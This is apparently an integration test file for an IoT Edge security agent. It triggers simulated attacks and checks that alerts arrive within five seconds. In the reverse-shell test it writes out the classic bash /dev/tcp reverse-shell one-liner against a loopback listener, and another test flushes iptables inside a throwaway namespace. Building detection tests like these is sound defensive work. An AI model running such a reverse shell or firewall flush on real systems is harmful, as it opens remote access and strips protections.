import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { STATUS_KEY } from '../../../src/agent/property-reporter';
import { CONFIG_KEY } from '../../../src/config/settings';
import { createSchemaValidator } from '../../../src/core/schema-validator';
import { AgentProcess, builtAgentSkipReason } from '../../harness/agent-process';
import { EdgeHubStandIn, edgeHubStandInSkipReason, type RecordedOutput } from '../../harness/edgehub-standin';
import { dockerForTests, ensureTestImage, TEST_IMAGE } from '../../harness/docker';
import { childEnvironment } from '../../harness/iot-environment';
import { referenceSchemaDir } from '../../harness/paths';

/**
 * The real thing on this machine, with the agent as IoT Edge runs it (default frequencies: High every
 * PT7M) against the edgeHub stand-in: each action must produce its SecurityAlert upstream within 5 s.
 * Everything stays on loopback, in a network namespace the test creates, or on a throw-away user.
 */

const skip = edgeHubStandInSkipReason() ?? builtAgentSkipReason() ?? (process.getuid?.() === 0 ? undefined : 'the agent needs root for the proc connector');
if (skip) console.error(`SKIP: detection scenario tests: ${skip}`);

type Json = Record<string, unknown>;
interface WireEvent {
  Name: string;
  Payload: Json[];
}

const LATENCY_LIMIT_MS = 5_000;
const validator = createSchemaValidator(referenceSchemaDir());
const cleanups: Array<() => unknown> = [];
let hub: EdgeHubStandIn;
let agent: AgentProcess;
let stateDir: string;

function alertsIn(output: RecordedOutput): Json[] {
  const body = JSON.parse(output.body) as { Events: WireEvent[] };
  return body.Events.filter((e) => e.Name === 'SecurityAlert').flatMap((e) => e.Payload);
}

function allAlerts(): Json[] {
  return hub.outputBodies().flatMap((b) => (b as { Events: WireEvent[] }).Events.filter((e) => e.Name === 'SecurityAlert').flatMap((e) => e.Payload));
}

/** Waits for an alert of `ruleId` matching `match`, returns ms from `since` to its arrival at the stand-in. */
async function alertLatency(ruleId: string, since: number, match: (alert: Json) => boolean = () => true): Promise<{ ms: number; alert: Json }> {
  const output = await hub
    .waitForOutput((o) => o.receivedAt >= since && alertsIn(o).some((a) => a.RuleId === ruleId && match(a)), 15_000)
    .catch((err: Error) => {
      throw new Error(`${err.message}: no ${ruleId} alert\n${agent.tail(40)}`);
    });
  const alert = alertsIn(output).find((a) => a.RuleId === ruleId && match(a))!;
  const result = validator.validateMessage(JSON.parse(output.body));
  assert.ok(result.valid, result.errors.join('; '));
  return { ms: output.receivedAt - since, alert };
}

before(async () => {
  if (skip) return;
  stateDir = mkdtempSync(path.join(os.tmpdir(), 'h-detect-state-'));
  cleanups.push(() => rmSync(stateDir, { recursive: true, force: true }));
  hub = await EdgeHubStandIn.start({ desired: { [CONFIG_KEY]: {} } });
  cleanups.push(() => hub.close());
  agent = new AgentProcess(childEnvironment({ ...hub.devEnvironment(), EDGEGUARD_STATE_DIR: stateDir, EDGEGUARD_HOST_ROOT: '/' }));
  cleanups.push(() => agent.stop('SIGKILL', 5000));
  await hub.waitUntil(() => agent.lines.some((l) => l.includes('EdgeGuard running')), 30_000, 'agent running').catch((err: Error) => {
    throw new Error(`${err.message}\n${agent.tail()}`);
  });
  // Let the sources settle (first scans) before acting.
  await sleep(1500);
});

after(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) {
    try {
      await cleanup();
    } catch {
      // best effort
    }
  }
});

test('reverse shell: a shell whose stdin/stdout is a TCP socket to a loopback listener -> EG-PROC-001 upstream within 5 s', { skip, timeout: 30_000 }, async (t) => {
  const server = net.createServer((socket) => {
    socket.write('exit\n');
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanups.push(() => server.close());
  const port = (server.address() as net.AddressInfo).port;
  const since = Date.now();
  // The classic one-liner: bash's /dev/tcp redirection, then an interactive shell on the socket.
  const child = spawn('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' });
  const { ms, alert } = await alertLatency('EG-PROC-001', since);
  t.diagnostic(`EG-PROC-001 action -> stand-in: ${ms} ms`);
  child.kill('SIGKILL');
  assert.ok(ms < LATENCY_LIMIT_MS, `alert arrived after ${ms} ms`);
  assert.equal(alert.Severity, 'High');
  const entity = alert.Entity as Json;
  assert.match(String(entity.Executable), /bash$/);
  const evidence = (alert.Evidence as Json[])[0]!;
  const details = (evidence.Payload as Json).ExtraDetails as Record<string, string>;
  assert.equal(details.StdinType, 'tcp');
  assert.match(details.ParentExecutable ?? '', /bash$/);
  const redirect = await alertLatency('EG-PROC-002', since);
  assert.ok(redirect.ms < LATENCY_LIMIT_MS, `/dev/tcp alert arrived after ${redirect.ms} ms`);
});

test('firewall flushed inside a network namespace the test creates -> EG-PROC-017 within 5 s', { skip, timeout: 30_000 }, async (t) => {
  if (spawnSync('sh', ['-c', 'command -v unshare && command -v iptables'], { stdio: 'ignore' }).status !== 0) {
    t.skip('SKIP: unshare or iptables missing');
    return;
  }
  const since = Date.now();
  const run = spawnSync('unshare', ['--net', 'sh', '-c', 'iptables -F'], { encoding: 'utf8' });
  assert.equal(run.status, 0, run.stderr);
  const { ms, alert } = await alertLatency('EG-PROC-017', since);
  assert.ok(ms < LATENCY_LIMIT_MS, `alert arrived after ${ms} ms`);
  assert.match(String((alert.Entity as Json).CommandLine), /iptables -F/);
});

test('throw-away user added, put in a group, deleted -> EG-PROC-020, EG-PROC-022, EG-PROC-021 within 5 s', { skip, timeout: 40_000 }, async (t) => {
  if (spawnSync('sh', ['-c', 'command -v useradd && command -v usermod && command -v userdel'], { stdio: 'ignore' }).status !== 0) {
    t.skip('SKIP: useradd/usermod/userdel missing');
    return;
  }
  const user = `hdet${process.pid % 100000}`;
  cleanups.push(() => spawnSync('userdel', [user], { stdio: 'ignore' }));
  const since = Date.now();
  assert.equal(spawnSync('useradd', ['--no-create-home', '--shell', '/usr/sbin/nologin', user]).status, 0);
  const added = await alertLatency('EG-PROC-020', since, (a) => String((a.Entity as Json).CommandLine).includes(user));
  assert.ok(added.ms < LATENCY_LIMIT_MS, `useradd alert after ${added.ms} ms`);
  const groupSince = Date.now();
  assert.equal(spawnSync('usermod', ['-aG', 'nogroup', user]).status, 0);
  const grouped = await alertLatency('EG-PROC-022', groupSince, (a) => String((a.Entity as Json).CommandLine).includes(user));
  assert.ok(grouped.ms < LATENCY_LIMIT_MS, `usermod alert after ${grouped.ms} ms`);
  const delSince = Date.now();
  assert.equal(spawnSync('userdel', [user]).status, 0);
  const deleted = await alertLatency('EG-PROC-021', delSince, (a) => String((a.Entity as Json).CommandLine).includes(user));
  assert.ok(deleted.ms < LATENCY_LIMIT_MS, `userdel alert after ${deleted.ms} ms`);
});

test('the alerts direct method returns the recent alerts; the WARN line is in the log', { skip, timeout: 20_000 }, async () => {
  await hub.waitUntil(() => allAlerts().length > 0, 10_000, 'an alert');
  const answer = await hub.invokeMethod('alerts', { limit: 5 });
  assert.equal(answer.status, 200);
  const alerts = (answer.payload as { alerts: Json[] }).alerts;
  assert.ok(alerts.length > 0 && alerts.length <= 5);
  assert.ok(alerts.every((a) => typeof a.RuleId === 'string' && typeof a.AlertId === 'string'));
  assert.ok(agent.lines.some((l) => l.includes('ALERT High EG-PROC-001')), 'a WARN line names the alert');
  const bad = await hub.invokeMethod('alerts', { limit: -1 });
  assert.equal(bad.status, 400);
  // The twin's status section says what the detections stage runs.
  await hub.waitForReported((r) => typeof ((r[STATUS_KEY] as Json | undefined)?.detections as Json | undefined)?.rules === 'number', 15_000);
  const status = (hub.reported[STATUS_KEY] as Json).detections as Json;
  assert.ok((status.rules as number) > 50);
  assert.equal(status.rulesProblem, '');
  assert.equal(status.learning, true);
});

test('a privileged container created (not started) and a shell exec into a container -> EG-CONT-002, EG-CONT-001 within 5 s', { skip, timeout: 60_000 }, async (t) => {
  const docker = await dockerForTests();
  if ('skip' in docker) {
    t.skip(`SKIP: ${docker.skip}`);
    return;
  }
  const imageSkip = await ensureTestImage(docker.connection.docker);
  if (imageSkip) {
    t.skip(imageSkip);
    return;
  }
  const privileged = `h-detect-priv-${process.pid}`;
  const running = `h-detect-exec-${process.pid}`;
  cleanups.push(() => spawnSync('docker', ['rm', '-f', privileged, running], { stdio: 'ignore' }));
  const since = Date.now();
  const created = spawnSync('docker', ['create', '--privileged', '--network', 'none', '--name', privileged, TEST_IMAGE, 'true'], { encoding: 'utf8' });
  assert.equal(created.status, 0, created.stderr);
  const priv = await alertLatency('EG-CONT-002', since, (a) => (a.Entity as Json).ContainerName === privileged);
  assert.ok(priv.ms < LATENCY_LIMIT_MS, `privileged container alert after ${priv.ms} ms`);
  assert.equal(priv.alert.Severity, 'Medium');

  const started = spawnSync('docker', ['run', '-d', '--network', 'none', '--name', running, TEST_IMAGE, 'sleep', '60'], { encoding: 'utf8' });
  assert.equal(started.status, 0, started.stderr);
  const execSince = Date.now();
  const exec = spawnSync('docker', ['exec', running, 'sh', '-c', 'id'], { encoding: 'utf8' });
  assert.equal(exec.status, 0, exec.stderr);
  const shell = await alertLatency('EG-CONT-001', execSince, (a) => (a.Entity as Json).ContainerName === running);
  assert.ok(shell.ms < LATENCY_LIMIT_MS, `container shell alert after ${shell.ms} ms`);
});
